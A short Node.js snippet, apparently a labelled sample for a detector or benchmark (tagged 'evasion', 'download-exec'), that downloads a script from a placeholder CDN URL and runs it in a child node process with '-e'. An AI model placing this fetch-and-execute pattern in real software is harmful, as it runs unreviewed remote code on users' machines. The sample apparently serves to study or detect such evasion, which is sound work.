// evasion: downloaded script handed to a second node process (process.execPath -e) with an argument list
// grade: medium; does: download-exec
const { spawnSync } = require('child_process');
const https = require('https');

https.get('https://cdn.example.org/stage.js', (res) => {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', (c) => (body += c));
  res.on('end', () => {
    spawnSync(process.execPath, ['-e', body], { stdio: 'inherit' });
  });
});
